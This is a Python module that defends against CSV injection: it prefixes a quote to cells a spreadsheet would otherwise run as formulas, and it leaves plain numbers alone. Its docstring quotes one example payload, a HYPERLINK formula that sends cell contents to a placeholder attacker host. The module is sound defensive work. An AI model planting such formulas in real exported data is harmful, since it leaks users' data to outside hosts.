"""CSV cells a spreadsheet would run as formulas, and how every CSV meant for people defuses them.

A CSV opened in Excel, LibreOffice or Google Sheets runs a cell that starts with `=`, `+`, `-`
or `@` as a formula (a tab or a carriage return first can hide the same), so a customer name or
charge description such as `=HYPERLINK("http://evil.example/?"&A1,"click")`, sent in with an
`ingest` key, would run on the operator's desk ("CSV injection"). The defence OWASP describes is
the one used here: such a cell is written with a leading `'`, which spreadsheets show as text
and do not print. It is the only rule for every CSV Neruba writes for people (exports, the
compare and simulate reports, the reconcile report), kept here so they cannot drift apart.

Numbers stay numbers: a cell that is a plain decimal (`-5`, `-12.50`) is a value, not a
formula, and is written as it is, so amounts and quantities sum in a spreadsheet as before.
Anything else starting with one of those characters gets the `'`, whatever follows (`+1+1`,
`-2+3`, `@SUM(A1)`, `-` alone).

The `'` is not removed on the way back in: a file meant to be read by a program (`neruba
ingest`, a warehouse loader) is exported without the escape (`neruba export --raw`) or as
JSONL, which is never escaped.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FIRST = frozenset(FORMULA_START)
ESCAPE = "'"
NUMBER = re.compile(r"-?\d+(\.\d+)?\Z")


def escaped(value: object) -> object:
    """`value` as a spreadsheet may safely show it: text that would start a formula gets a
    leading `'`; numbers and other values are returned unchanged."""
    if isinstance(value, str) and value[:1] in _FIRST and not NUMBER.match(value):
        return ESCAPE + value
    return value


def escaped_row(row: Iterable[object]) -> list[object]:
    """Every cell of a row through `escaped` (the hot path of a CSV export: one pass, no
    call for the cells that cannot need it)."""
    first, number = _FIRST, NUMBER.match
    return [
        ESCAPE + cell if isinstance(cell, str) and cell[:1] in first and not number(cell) else cell
        for cell in row
    ]
